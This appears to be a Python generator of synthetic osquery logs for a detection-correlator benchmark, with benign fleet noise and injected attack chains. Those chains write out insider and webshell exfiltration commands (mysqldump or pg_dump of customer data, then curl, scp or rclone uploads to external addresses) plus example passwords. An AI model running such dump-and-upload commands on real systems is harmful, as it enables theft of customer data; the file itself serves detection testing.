"""Deterministic generator of osquery results logs for the correlator benchmark.

Writes what a fleet of hosts running the `dbwatch` pack would log through
osquery's filesystem logger: event format (one row a line) with
`pack_dbwatch_<query>` names, decorations, string values (a few hosts run with
`--logger_numerics`), one-row-a-line `admin_accounts` snapshots, and query
run times (`unixTime`) shortly after each row's event `time`.

Most lines are benign noise that a correlator must let pass:
- monitoring: nagios runs `mysql -e SHOW GLOBAL STATUS` / `psql -c SELECT 1`
  every minute (or every five) on database hosts;
- nightly backups by the `backup` service account from cron inside the
  automation window, with their .dump files and rsync to an internal host;
- an allowed ETL job (`etl`, `/opt/etl/bin/nightly-export`) hourly, writing
  CSVs and uploading them;
- admins (alice, and grace through the `dba` group) running clients, dumps
  and internal copies by day, partly through `sudo -u postgres`;
- file events of non-dump-ish files that pass the pack's path filter anyway
  (.txt, .json, .out, .db), and app-generated CSV reports;
- connects to internal networks and loopback, package mirrors, git hosts and
  payment APIs, log compression and health checks.

Injected, counted in the sidecar `<log>.meta.json`:
- `insider`: a non-admin user's DB client or dump tool from an interactive
  shell, a dump file it owns within minutes, then an upload to an external
  address (access -> dump -> egress within 30 minutes);
- `webshell_egress` / `webshell`: mysqldump as www-data under a shell with
  no login session, into the web root, with or without an upload;
- `access_only`: a non-admin user's DB client run and nothing else.

Same spec, same bytes: all randomness comes from one seeded `random.Random`.

    python bench/gen_log.py --lines 1000000 --hosts 1000 --out /tmp/fleet.log
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import math
import os
import random
import sys
import time
from dataclasses import dataclass, field
from typing import Any, Callable, Iterator

try:
    import msgspec

    _dumps: Callable[[Any], bytes] = msgspec.json.Encoder().encode

except ImportError:  # pragma: no cover - msgspec is in the fast extra

    def _dumps(obj: Any) -> bytes:
        return json.dumps(obj, separators=(",", ":")).encode()


# Monday 2026-11-02 00:00:00 UTC: the log starts a working week, so the
# backup window (Mon-Fri 01:00-03:30 UTC in config.yml) falls inside it.
START_EPOCH = 1793577600
NO_LOGIN = 4294967295
HERE = os.path.dirname(os.path.abspath(__file__))
CONFIG_PATH = os.path.join(HERE, "config.yml")

ADMINS = ("alice", "grace")  # alice by name in config.yml, grace through group dba
SERVICE = {"backup": 998, "nagios": 997, "etl": 996}
SYSTEM = {"root": 0, "www-data": 33, "postgres": 113, "mysql": 112, "appsvc": 990}
ADMIN_UIDS = {"alice": 1001, "grace": 1010}
DEV_POOL = tuple(f"dev{n:03d}" for n in range(1, 301))
EXTERNAL_UPLOAD = ("93.184.216.34", "203.0.113.7", "198.51.100.23", "142.250.74.46", "104.16.132.229", "185.199.108.153")
EXTERNAL_BENIGN = ("151.101.2.132", "140.82.121.4", "140.82.121.3", "151.101.66.132")
PAYMENT_API = ("52.85.132.18", "54.230.10.44")

QUERIES = ("db_cli_exec", "transfer_exec", "dump_file_events", "db_egress", "admin_accounts")
NUMERIC_COLUMNS = frozenset(
    {"time", "pid", "parent", "uid", "euid", "auid", "inode", "size", "family", "remote_port", "success"}
)


@dataclass(frozen=True)
class Spec:
    lines: int = 1_000_000
    hosts: int = 1000
    seed: int = 20261102
    insider: int = -1  # -1: scale with lines (one per 10,000 lines)
    webshell: int = -1  # -1: one per 50,000 lines (half with egress)
    access_only: int = -1  # -1: one per 10,000 lines

    def resolved(self) -> "Spec":
        return dataclasses.replace(
            self,
            insider=self.insider if self.insider >= 0 else max(1, self.lines // 10_000),
            webshell=self.webshell if self.webshell >= 0 else max(1, self.lines // 50_000),
            access_only=self.access_only if self.access_only >= 0 else max(1, self.lines // 10_000),
        )

    def key(self) -> str:
        r = self.resolved()
        return f"l{r.lines}-h{r.hosts}-s{r.seed}-i{r.insider}-w{r.webshell}-a{r.access_only}-v4"


@dataclass
class Host:
    index: int
    name: str
    role: str  # "db", "web", "app"
    engine: str  # "postgres" or "mysql" (what the local database is, if any)
    uuid: str
    offset: int  # second within each minute at which this host's queries run
    numerics: bool
    devs: tuple[str, ...]
    monitor_every: int  # minutes between nagios checks; 0 = none
    etl: bool
    pid: int
    counters: dict[str, int] = field(default_factory=dict)
    last_run: dict[str, int] = field(default_factory=dict)
    decorations: dict[str, str] = field(default_factory=dict)

    def next_pid(self, rng: random.Random) -> int:
        self.pid += rng.randint(3, 40)
        if self.pid > 4_000_000:
            self.pid = 1000
        return self.pid


def uid_of(user: str) -> int:
    if user in SERVICE:
        return SERVICE[user]
    if user in SYSTEM:
        return SYSTEM[user]
    if user in ADMIN_UIDS:
        return ADMIN_UIDS[user]
    return 2000 + int(user[3:])  # devNNN


@dataclass
class Pending:
    """One row waiting for its query run."""

    log_time: int
    host: int
    seq: int
    query: str
    row: dict[str, Any]
    chain: int = -1  # index into the injected-chain table, -1 for noise
    snapshot: list[dict[str, Any]] | None = None


class Generator:
    """Streams lines minute by minute; rows scheduled ahead wait in per-minute buckets."""

    # expected noise rows per host-minute, besides monitoring (calibrates duration)
    NOISE_RATE = 0.25

    def __init__(self, spec: Spec) -> None:
        self.spec = spec.resolved()
        self.rng = random.Random(self.spec.seed)
        self.hosts = [self._make_host(i) for i in range(self.spec.hosts)]
        self.buckets: dict[int, list[Pending]] = {}
        self.seq = 0
        self.chains: list[dict[str, Any]] = []
        self.chain_left: list[int] = []
        self._calendar_cache: dict[int, str] = {}

    # ------------------------------------------------------------------ hosts

    def _make_host(self, i: int) -> Host:
        rng = self.rng
        role = ("db", "db", "db", "db", "web", "web", "web", "app", "app", "app")[i % 10]
        name = f"{role}-{i:04d}"
        engine = "postgres" if rng.random() < 0.5 else "mysql"
        uuid = "%08X-%04X-%04X-%04X-%012X" % (
            rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48)
        )
        devs = tuple(rng.sample(DEV_POOL, 4))
        monitor = 0
        if role == "db":
            monitor = 1 if rng.random() < 0.5 else 5
        host = Host(
            index=i,
            name=name,
            role=role,
            engine=engine,
            uuid=uuid,
            offset=rng.randrange(60),
            numerics=(i % 20 == 19),
            devs=devs,
            monitor_every=monitor,
            etl=(role == "db" and rng.random() < 0.2),
            pid=rng.randint(2000, 90000),
        )
        host.decorations = {"host_uuid": uuid, "hostname": name}
        return host

    # ------------------------------------------------------------- scheduling

    def log_time_for(self, host: Host, event_time: int) -> int:
        """The first query run (every 60 s at the host's offset) after the event."""
        base = event_time - host.offset
        return (base // 60 + 1) * 60 + host.offset

    def add(self, host: Host, query: str, row: dict[str, Any], chain: int = -1) -> None:
        log_time = self.log_time_for(host, int(row["time"]))
        self.seq += 1
        minute = (log_time - START_EPOCH) // 60
        self.buckets.setdefault(minute, []).append(Pending(log_time, host.index, self.seq, query, row, chain))
        if chain >= 0:
            self.chain_left[chain] += 1

    def add_snapshot(self, host: Host, at: int) -> None:
        rows = [{"groupname": "root", "uid": "0", "username": "root"}]
        rows += [{"groupname": "dba", "uid": str(uid_of(u)), "username": u} for u in ADMINS]
        self.seq += 1
        minute = (at - START_EPOCH) // 60
        self.buckets.setdefault(minute, []).append(
            Pending(at, host.index, self.seq, "admin_accounts", {}, -1, snapshot=rows)
        )

    # ------------------------------------------------------------------ rows

    def proc_row(
        self,
        host: Host,
        t: int,
        path: str,
        cmdline: str,
        user: str,
        login: str | None,
        parent_path: str,
        parent_cmdline: str,
        cwd: str,
        pid: int | None = None,
        parent: int | None = None,
    ) -> dict[str, Any]:
        uid = uid_of(user)
        auid = uid_of(login) if login else NO_LOGIN
        return {
            "auid": str(auid),
            "cmdline": cmdline,
            "cwd": cwd,
            "euid": str(uid),
            "login_user": login or "",
            "parent": str(parent if parent is not None else host.next_pid(self.rng)),
            "parent_cmdline": parent_cmdline,
            "parent_path": parent_path,
            "path": path,
            "pid": str(pid if pid is not None else host.next_pid(self.rng)),
            "time": str(t),
            "uid": str(uid),
            "username": user,
        }

    def file_row(self, t: int, target: str, owner: str, action: str = "CREATED", size: int = 0) -> dict[str, Any]:
        return {
            "action": action,
            "inode": str(self.rng.randint(100000, 9000000)),
            "owner": owner,
            "sha256": "",
            "size": str(size),
            "target_path": target,
            "time": str(t),
            "uid": str(uid_of(owner)),
        }

    def sock_row(self, t: int, pid: int, path: str, login: str | None, address: str, port: int) -> dict[str, Any]:
        return {
            "auid": str(uid_of(login) if login else NO_LOGIN),
            "family": "10" if ":" in address else "2",
            "login_user": login or "",
            "path": path,
            "pid": str(pid),
            "remote_address": address,
            "remote_port": str(port),
            "success": "1",
            "time": str(t),
        }

    def internal_ip(self) -> str:
        r = self.rng
        if r.random() < 0.8:
            return f"10.{r.randint(0, 40)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
        return f"192.168.{r.randint(0, 20)}.{r.randint(1, 254)}"

    def client(self, host: Host, kind: str) -> tuple[list[str], str]:
        """Executable paths (Debian's psql execs twice through its Perl wrapper) and a cmdline head."""
        if host.engine == "postgres":
            tool = {"client": "psql", "dump": "pg_dump"}[kind]
            return ["/usr/bin/perl", f"/usr/lib/postgresql/15/bin/{tool}"], tool
        tool = {"client": "mysql", "dump": "mysqldump"}[kind]
        return [{"mysql": "/usr/bin/mariadb", "mysqldump": "/usr/bin/mariadb-dump"}[tool]], tool

    def exec_rows(
        self, host: Host, t: int, kind: str, args: str, user: str, login: str | None,
        parent_path: str, parent_cmdline: str, cwd: str, chain: int = -1,
    ) -> int:
        paths, tool = self.client(host, kind)
        pid = host.next_pid(self.rng)
        parent = host.next_pid(self.rng)
        for path in paths:
            if path == "/usr/bin/perl":
                cmd = f"/usr/bin/perl /usr/bin/{tool} {args}"
            elif path.startswith("/usr/lib/postgresql"):
                cmd = f"{path} {args}"
            else:
                cmd = f"{tool} {args}"
            row = self.proc_row(host, t, path, cmd, user, login, parent_path, parent_cmdline, cwd, pid, parent)
            self.add(host, "db_cli_exec", row, chain)
        return pid

    # ------------------------------------------------------------ noise kinds

    def monitoring(self, host: Host, minute_start: int) -> None:
        t = minute_start + (host.offset + 7) % 60
        if host.engine == "postgres":
            args = "-X -A -t -h 127.0.0.1 -U nagios -d postgres -c SELECT 1"
        else:
            args = "--defaults-file=/etc/nagios/my.cnf -e SHOW GLOBAL STATUS"
        if host.index % 3 == 0:
            parent_path, parent_cmdline = "/usr/sbin/nrpe", "/usr/sbin/nrpe -c /etc/nagios/nrpe.cfg -d"
        else:
            parent_path, parent_cmdline = "/usr/bin/dash", "/bin/sh -c /usr/lib/nagios/plugins/check_db"
        self.exec_rows(host, t, "client", args, "nagios", None, parent_path, parent_cmdline, "/")

    def backup(self, host: Host, t: int) -> None:
        r = self.rng
        stamp = time.strftime("%Y%m%d", time.gmtime(t))
        if host.engine == "postgres":
            target = f"/var/backups/pg/customers-{stamp}.dump"
            args = f"-Fc -f {target} customers"
        else:
            target = f"/var/backups/mysql/shop-{stamp}.sql.gz"
            args = "--single-transaction --routines shop"
        cron = ("/usr/sbin/cron", "/usr/sbin/CRON -f")
        self.exec_rows(host, t, "dump", args, "backup", "backup", cron[0], cron[1], "/var/lib/backup")
        t2 = t + r.randint(30, 600)
        self.add(host, "dump_file_events", self.file_row(t2, target, "backup", "CREATED", 0))
        self.add(host, "dump_file_events", self.file_row(t2 + r.randint(5, 300), target, "backup", "UPDATED", r.randint(10**7, 10**9)))
        t3 = t2 + r.randint(400, 900)
        dest = self.internal_ip()
        pid = host.next_pid(r)
        row = self.proc_row(host, t3, "/usr/bin/rsync", f"rsync -a {target} backup@{dest}:/srv/backups/{host.name}/",
                            "backup", "backup", "/usr/bin/dash", "/bin/sh -c /usr/local/bin/ship-backups", "/", pid)
        self.add(host, "transfer_exec", row)
        self.add(host, "db_egress", self.sock_row(t3 + 1, pid, "/usr/bin/ssh", "backup", dest, 22))

    def etl_run(self, host: Host, t: int) -> None:
        r = self.rng
        stamp = time.strftime("%Y%m%dT%H", time.gmtime(t))
        target = f"/srv/etl/out/orders-{stamp}.csv"
        args = f"-h 10.20.0.5 -U etl -d orders -c \\copy (select * from orders_delta) to '{target}' csv"
        if host.engine == "mysql":
            args = f"-h 10.20.0.5 -u etl -e SELECT * FROM orders_delta INTO OUTFILE '{target}'"
        self.exec_rows(host, t, "client", args, "etl", None, "/opt/etl/bin/nightly-export",
                       "/opt/etl/bin/nightly-export --hourly", "/srv/etl")
        t2 = t + r.randint(5, 120)
        self.add(host, "dump_file_events", self.file_row(t2, target, "etl", "CREATED", r.randint(10**4, 10**7)))
        pid = host.next_pid(r)
        t3 = t2 + r.randint(10, 200)
        row = self.proc_row(host, t3, "/usr/local/bin/aws", f"aws s3 cp {target} s3://corp-etl-drop/orders/",
                            "etl", None, "/opt/etl/bin/nightly-export", "/opt/etl/bin/nightly-export --hourly", "/srv/etl", pid)
        self.add(host, "transfer_exec", row)
        self.add(host, "db_egress", self.sock_row(t3 + 1, pid, "/usr/local/bin/aws", None, "52.216.20.51", 443))

    def admin_session(self, host: Host, t: int) -> None:
        r = self.rng
        admin = r.choice(ADMINS)
        shell = ("/usr/bin/bash", "-bash")
        home = f"/home/{admin}"
        choice = r.random()
        if choice < 0.45:
            args = "-h 127.0.0.1 -U app -d customers" if host.engine == "postgres" else "-u root -pHunter2-prod shop"
            self.exec_rows(host, t, "client", args, admin, admin, shell[0], shell[1], home)
        elif choice < 0.7:
            # sudo -u postgres keeps the admin's auid
            args = "-c SELECT pid, query FROM pg_stat_activity" if host.engine == "postgres" else "-u root -e SHOW PROCESSLIST"
            user = "postgres" if host.engine == "postgres" else "mysql"
            self.exec_rows(host, t, "client", args, user, admin, "/usr/bin/sudo", f"sudo -u {user} -i", "/var/lib")
        else:
            stamp = r.randint(1000, 9999)
            if host.engine == "postgres":
                target = f"{home}/customers-{stamp}.dump"
                args = f"-Fc -f {target} customers"
            else:
                target = f"{home}/shop-{stamp}.sql"
                args = "--single-transaction shop"
            self.exec_rows(host, t, "dump", args, admin, admin, shell[0], shell[1], home)
            t2 = t + r.randint(20, 400)
            self.add(host, "dump_file_events", self.file_row(t2, target, admin, "CREATED", 0))
            self.add(host, "dump_file_events", self.file_row(t2 + r.randint(2, 60), target, admin, "UPDATED", r.randint(10**5, 10**9)))
            if r.random() < 0.6:
                t3 = t2 + r.randint(60, 600)
                dest = self.internal_ip()
                pid = host.next_pid(r)
                row = self.proc_row(host, t3, "/usr/bin/scp", f"scp {target} {admin}@{dest}:/data/restore/",
                                    admin, admin, shell[0], shell[1], home, pid)
                self.add(host, "transfer_exec", row)
                self.add(host, "db_egress", self.sock_row(t3 + 1, pid, "/usr/bin/ssh", admin, dest, 22))

    def file_noise(self, host: Host, t: int) -> None:
        r = self.rng
        x = r.random()
        if host.role == "web" and x < 0.5:
            target = f"/var/www/html/cache/{r.randrange(256):02x}/{r.getrandbits(40):010x}.json"
            owner = "www-data"
        elif x < 0.65:
            dev = r.choice(host.devs)
            target = r.choice((
                f"/home/{dev}/.cache/pip/selfcheck.json",
                f"/home/{dev}/notes-{r.randint(1, 99)}.txt",
                f"/tmp/tmp.{r.getrandbits(32):08x}.txt",
                f"/home/{dev}/.local/share/recently-used.db",
            ))
            owner = dev
        elif x < 0.85:
            target = f"/srv/app/logs/worker-{r.randint(1, 8)}.out"
            owner = "appsvc"
        elif x < 0.95:
            target = f"/srv/app/exports/report-{r.getrandbits(24):06x}.csv"  # the app writes CSV reports itself
            owner = "appsvc"
        else:
            target = f"/var/tmp/systemd-private-{r.getrandbits(32):08x}/state.db"
            owner = "root"
        action = "CREATED" if r.random() < 0.6 else "UPDATED"
        self.add(host, "dump_file_events", self.file_row(t, target, owner, action, r.randint(0, 10**6)))

    def egress_noise(self, host: Host, t: int) -> None:
        r = self.rng
        x = r.random()
        pid = host.next_pid(r)
        if x < 0.35:
            dev = r.choice(host.devs)
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/bin/ssh", dev, self.internal_ip(), 22))
        elif x < 0.5:
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/lib/apt/methods/http", None, r.choice(EXTERNAL_BENIGN), 80))
        elif x < 0.65:
            dev = r.choice(host.devs)
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/lib/git-core/git-remote-https", dev, r.choice(EXTERNAL_BENIGN), 443))
        elif x < 0.8 and host.role == "web":
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/sbin/php-fpm8.2", None, r.choice(PAYMENT_API), 443))
        elif x < 0.9:
            # loopback that slipped past the pack filter (IPv6, resolver stub)
            address, port = r.choice((("127.0.0.1", 5432), ("::1", 3306), ("127.0.0.53", 53)))
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/bin/python3.11", None, address, port))
        else:
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/sbin/nrpe", None, self.internal_ip(), 5666))

    def transfer_noise(self, host: Host, t: int) -> None:
        r = self.rng
        x = r.random()
        pid = host.next_pid(r)
        if x < 0.4:
            row = self.proc_row(host, t, "/usr/bin/gzip", f"gzip -9 /var/log/nginx/access.log.{r.randint(1, 9)}",
                                "root", None, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/", pid)
            self.add(host, "transfer_exec", row)
        elif x < 0.7:
            dev = r.choice(host.devs)
            dest = self.internal_ip()
            row = self.proc_row(host, t, "/usr/bin/curl", f"curl -s http://{dest}:8080/health", dev, dev,
                                "/usr/bin/bash", "-bash", f"/home/{dev}", pid)
            self.add(host, "transfer_exec", row)
            self.add(host, "db_egress", self.sock_row(t, pid, "/usr/bin/curl", dev, dest, 8080))
        elif x < 0.85:
            dev = r.choice(host.devs)
            row = self.proc_row(host, t, "/usr/bin/base64", "base64 -d", dev, dev, "/usr/bin/bash", "-bash", f"/home/{dev}", pid)
            self.add(host, "transfer_exec", row)
        else:
            row = self.proc_row(host, t, "/usr/bin/tar", "tar czf /var/tmp/etc-backup.tgz /etc", "root", None,
                                "/usr/sbin/cron", "/usr/sbin/CRON -f", "/", pid)
            self.add(host, "transfer_exec", row)

    # -------------------------------------------------------- injected chains

    def _new_chain(self, kind: str, host: Host, user: str, t: int) -> int:
        self.chains.append({"kind": kind, "host": host.name, "user": user, "time": t})
        self.chain_left.append(0)
        return len(self.chains) - 1

    def insider(self, host: Host, user: str, t: int) -> None:
        r = self.rng
        c = self._new_chain("insider", host, user, t)
        home = f"/home/{user}"
        shell = ("/usr/bin/bash", "-bash")
        variant = r.randrange(3)
        if variant == 0:
            target = f"/tmp/export-{r.getrandbits(16):04x}.csv"
            args = ("-h 127.0.0.1 -U app -d customers" if host.engine == "postgres"
                    else "-h 127.0.0.1 -u app -pW3lcome1 customers")
            self.exec_rows(host, t, "client", args, user, user, shell[0], shell[1], home, c)
        elif variant == 1:
            target = f"{home}/shop-{r.getrandbits(16):04x}.sql"
            args = (f"-h 127.0.0.1 -U app -f {target} shop" if host.engine == "postgres"
                    else "-h 127.0.0.1 -u app -pW3lcome1 --single-transaction shop")
            self.exec_rows(host, t, "dump", args, user, user, shell[0], shell[1], home, c)
        else:
            target = f"/dev/shm/.c/{r.getrandbits(16):04x}.sql.gz"
            args = (f"-h 127.0.0.1 -U app -Z 9 -f {target} customers" if host.engine == "postgres"
                    else "-h 127.0.0.1 -u app -pW3lcome1 customers")
            self.exec_rows(host, t, "dump", args, user, user, shell[0], shell[1], home, c)
        t2 = t + r.randint(40, 600)
        self.add(host, "dump_file_events", self.file_row(t2, target, user, "CREATED", 0), c)
        self.add(host, "dump_file_events", self.file_row(t2 + r.randint(2, 90), target, user, "UPDATED", r.randint(10**5, 10**9)), c)
        t3 = t2 + r.randint(120, 600)
        dest = r.choice(EXTERNAL_UPLOAD)
        pid = host.next_pid(r)
        tool = r.randrange(3)
        if tool == 0:
            path, cmd, port, sock_path = "/usr/bin/curl", f"curl -s -T {target} https://{dest}/u/", 443, "/usr/bin/curl"
        elif tool == 1:
            path, cmd, port, sock_path = "/usr/bin/scp", f"scp {target} drop@{dest}:/in/", 22, "/usr/bin/ssh"
        else:
            path, cmd, port, sock_path = "/usr/bin/rclone", f"rclone copy {target} drop:bucket", 443, "/usr/bin/rclone"
        self.add(host, "transfer_exec", self.proc_row(host, t3, path, cmd, user, user, shell[0], shell[1], home, pid), c)
        self.add(host, "db_egress", self.sock_row(t3 + 1, pid, sock_path, user, dest, port), c)

    def webshell(self, host: Host, t: int, egress: bool) -> None:
        r = self.rng
        c = self._new_chain("webshell_egress" if egress else "webshell", host, "www-data", t)
        target = f"/var/www/html/uploads/{r.getrandbits(20):05x}.sql"
        parent_cmdline = f"sh -c mysqldump -u root -pR00tPass! shop > {target}"
        pid = host.next_pid(r)
        row = self.proc_row(host, t, "/usr/bin/mariadb-dump", "mysqldump -u root -pR00tPass! shop", "www-data", None,
                            "/usr/bin/dash", parent_cmdline, "/var/www/html", pid)
        self.add(host, "db_cli_exec", row, c)
        t2 = t + r.randint(2, 30)
        self.add(host, "dump_file_events", self.file_row(t2, target, "www-data", "CREATED", r.randint(10**5, 10**8)), c)
        if egress:
            t3 = t2 + r.randint(30, 400)
            dest = r.choice(EXTERNAL_UPLOAD)
            pid = host.next_pid(r)
            row = self.proc_row(host, t3, "/usr/bin/curl", f"curl -s -F f=@{target} https://{dest}/up", "www-data", None,
                                "/usr/bin/dash", f"sh -c curl -s -F f=@{target} https://{dest}/up", "/var/www/html", pid)
            self.add(host, "transfer_exec", row, c)
            self.add(host, "db_egress", self.sock_row(t3 + 1, pid, "/usr/bin/curl", None, dest, 443), c)

    def access_only(self, host: Host, user: str, t: int) -> None:
        c = self._new_chain("access_only", host, user, t)
        args = "-h 10.20.0.5 -U report -d analytics" if host.engine == "postgres" else "-h 10.20.0.5 -u report analytics"
        self.exec_rows(host, t, "client", args, user, user, "/usr/bin/bash", "-bash", f"/home/{user}", c)

    def plan_injections(self, minutes: int) -> dict[int, list[Callable[[], None]]]:
        """Injected cases at random minutes, each on its own (host, user), finishing well before the end."""
        r = self.rng
        plan: dict[int, list[Callable[[], None]]] = {}
        used: set[tuple[int, str]] = set()
        last = max(60, int(minutes * 0.9) - 40)

        def pick(roles: tuple[str, ...], user: str | None) -> tuple[Host, str]:
            for _ in range(10_000):
                host = r.choice(self.hosts)
                if host.role not in roles:
                    continue
                who = user or r.choice(host.devs)
                if (host.index, who) not in used:
                    used.add((host.index, who))
                    return host, who
            raise ValueError("too many injections for this many hosts")

        def at(fn: Callable[[int], None]) -> None:
            minute = r.randint(30, last)
            t = START_EPOCH + minute * 60 + r.randrange(60)
            plan.setdefault(minute, []).append(lambda: fn(t))

        for _ in range(self.spec.insider):
            host, user = pick(("db", "app"), None)
            at(lambda t, h=host, u=user: self.insider(h, u, t))
        for i in range(self.spec.webshell):
            host, _ = pick(("web",), "www-data")
            at(lambda t, h=host, e=(i % 2 == 0): self.webshell(h, t, e))
        for _ in range(self.spec.access_only):
            host, user = pick(("db", "app"), None)
            at(lambda t, h=host, u=user: self.access_only(h, u, t))
        return plan

    # --------------------------------------------------------------- output

    def calendar(self, t: int) -> str:
        text = self._calendar_cache.get(t)
        if text is None:
            text = time.strftime("%a %b %d %H:%M:%S %Y UTC", time.gmtime(t))
            if len(self._calendar_cache) > 4096:
                self._calendar_cache.clear()
            self._calendar_cache[t] = text
        return text

    def render(self, item: Pending) -> bytes:
        host = self.hosts[item.host]
        name = f"pack_dbwatch_{item.query}"
        # one counter per query run: rows of the same run share it
        if host.last_run.get(item.query) != item.log_time:
            host.last_run[item.query] = item.log_time
            host.counters[item.query] = host.counters.get(item.query, 0) + 1
        head = {
            "name": name,
            "hostIdentifier": host.name,
            "calendarTime": self.calendar(item.log_time),
            "unixTime": item.log_time,
            "epoch": 0,
            "counter": host.counters[item.query] if item.snapshot is None else 0,
            "numerics": host.numerics,
            "decorations": host.decorations,
        }
        if item.snapshot is not None:
            rows = item.snapshot
            if host.numerics:
                rows = [{k: (int(v) if k == "uid" else v) for k, v in row.items()} for row in rows]
            head["snapshot"] = rows
            head["action"] = "snapshot"
        else:
            row = item.row
            if host.numerics:
                row = {k: (int(v) if k in NUMERIC_COLUMNS and v != "" else v) for k, v in row.items()}
            head["columns"] = row
            head["action"] = "added"
        return _dumps(head)

    def lines(self) -> Iterator[bytes]:
        spec = self.spec
        r = self.rng
        # rows per minute, to place injections inside the log (checked: meta counts cut-off chains)
        monitor_rate = sum((2 if h.engine == "postgres" else 1) / h.monitor_every for h in self.hosts if h.monitor_every)
        per_minute = monitor_rate + self.NOISE_RATE * len(self.hosts) + len(self.hosts) / 60.0
        minutes = int(math.ceil(spec.lines / per_minute)) + 1
        plan = self.plan_injections(minutes)
        n_hosts = len(self.hosts)
        # per-minute rates of the noise kinds, all hosts together
        file_rate, egress_rate, transfer_rate = 0.09 * n_hosts, 0.07 * n_hosts, 0.04 * n_hosts
        emitted = 0
        minute = 0
        while True:
            minute_start = START_EPOCH + minute * 60
            tm = time.gmtime(minute_start)
            minute_of_day = tm.tm_hour * 60 + tm.tm_min
            for host in self.hosts:
                if host.monitor_every and minute % host.monitor_every == host.index % host.monitor_every:
                    self.monitoring(host, minute_start)
                if minute == 0 or minute % 60 == host.index % 60:  # at start, then hourly
                    self.add_snapshot(host, minute_start + host.offset)
                if host.role == "db" and tm.tm_wday < 5 and minute_of_day == 65 + host.index % 120:
                    self.backup(host, minute_start + r.randrange(60))  # 01:05-03:04, inside the window
                if host.etl and tm.tm_min == (5 + host.index) % 60:
                    self.etl_run(host, minute_start + r.randrange(60))
            business = 8 <= tm.tm_hour < 18 and tm.tm_wday < 5
            for kind, rate in ((self.file_noise, file_rate), (self.egress_noise, egress_rate), (self.transfer_noise, transfer_rate),
                               (self.admin_session, 0.02 * n_hosts if business else 0.003 * n_hosts)):
                count = int(rate) + (1 if r.random() < rate - int(rate) else 0)
                for _ in range(count):
                    self_host = self.hosts[r.randrange(n_hosts)]
                    if kind == self.admin_session and self_host.role == "web":
                        continue
                    kind(self_host, minute_start + r.randrange(60))
            for inject in plan.pop(minute, ()):
                inject()
            bucket = self.buckets.pop(minute, [])
            bucket.sort(key=lambda p: (p.log_time, p.host, p.seq))
            for item in bucket:
                yield self.render(item)
                if item.chain >= 0:
                    self.chain_left[item.chain] -= 1
                emitted += 1
                if emitted >= spec.lines:
                    return
            minute += 1

    def meta(self) -> dict[str, Any]:
        complete: dict[str, int] = {}
        for chain, left in zip(self.chains, self.chain_left):
            if left == 0:
                complete[chain["kind"]] = complete.get(chain["kind"], 0) + 1
        return {
            "spec": dataclasses.asdict(self.spec),
            "key": self.spec.key(),
            "hosts": len(self.hosts),
            "injected": complete,
            "incomplete": sum(1 for left in self.chain_left if left),
            "chains": [c for c, left in zip(self.chains, self.chain_left) if left == 0],
        }


def generate(spec: Spec, out_path: str) -> dict[str, Any]:
    """Write the log to out_path (atomically) and its metadata to out_path + '.meta.json'."""
    gen = Generator(spec)
    tmp = out_path + ".part"
    count = 0
    with open(tmp, "wb") as handle:
        write = handle.write
        for line in gen.lines():
            write(line)
            write(b"\n")
            count += 1
    meta = gen.meta()
    meta["lines"] = count
    with open(out_path + ".meta.json", "w", encoding="utf-8") as handle:
        json.dump(meta, handle, indent=1)
    os.replace(tmp, out_path)
    return meta


def cache_path(spec: Spec, directory: str | None = None) -> tuple[str, str]:
    """Where the cached log for spec lives (and its directory, created)."""
    directory = directory or os.path.join(os.environ.get("TMPDIR", "/tmp"), "osq-dbwatch-bench")
    os.makedirs(directory, exist_ok=True)
    return os.path.join(directory, f"fleet-{spec.key()}.log"), directory


def cached(spec: Spec, directory: str | None = None) -> tuple[str, dict[str, Any]]:
    """The generated log for spec, from a temp-dir cache keyed by the spec (generated on a miss)."""
    path, _ = cache_path(spec, directory)
    meta_path = path + ".meta.json"
    if os.path.exists(path) and os.path.exists(meta_path):
        with open(meta_path, encoding="utf-8") as handle:
            return path, json.load(handle)
    return path, generate(spec, path)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=Spec.lines)
    parser.add_argument("--hosts", type=int, default=Spec.hosts)
    parser.add_argument("--seed", type=int, default=Spec.seed)
    parser.add_argument("--insider", type=int, default=-1)
    parser.add_argument("--webshell", type=int, default=-1)
    parser.add_argument("--access-only", type=int, default=-1)
    parser.add_argument("--out", required=True, help="output log path ('-' for standard output)")
    args = parser.parse_args(argv)
    spec = Spec(args.lines, args.hosts, args.seed, args.insider, args.webshell, args.access_only)
    if args.out == "-":
        gen = Generator(spec)
        out = sys.stdout.buffer
        for line in gen.lines():
            out.write(line + b"\n")
        json.dump(gen.meta()["injected"], sys.stderr)
        sys.stderr.write("\n")
        return 0
    started = time.perf_counter()
    meta = generate(spec, args.out)
    print(f"{meta['lines']} lines, {meta['hosts']} hosts, injected {meta['injected']} "
          f"({meta['incomplete']} cut off) in {time.perf_counter() - started:.1f}s -> {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
